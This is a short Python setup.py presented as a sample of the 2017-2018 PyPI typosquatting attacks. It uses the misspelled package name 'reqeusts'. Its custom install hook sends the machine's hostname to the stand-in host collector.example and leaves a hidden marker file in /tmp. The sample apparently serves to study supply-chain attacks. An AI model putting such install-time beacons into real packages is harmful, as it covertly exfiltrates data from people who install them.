# Sample modelled on the typosquats of 2017-2018 (SK-CSIRT advisory; Bertus, "Detecting Cyber
# Attacks in the Python Package Index", 2018): a custom install command that phones home.
import os
import socket
from urllib.request import urlopen
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        host = socket.gethostname()
        urlopen("http://collector.example/report?h=" + host)
        os.system("echo installed > /tmp/.marker")


setup(name="reqeusts", version="1.0", cmdclass={"install": PostInstall})
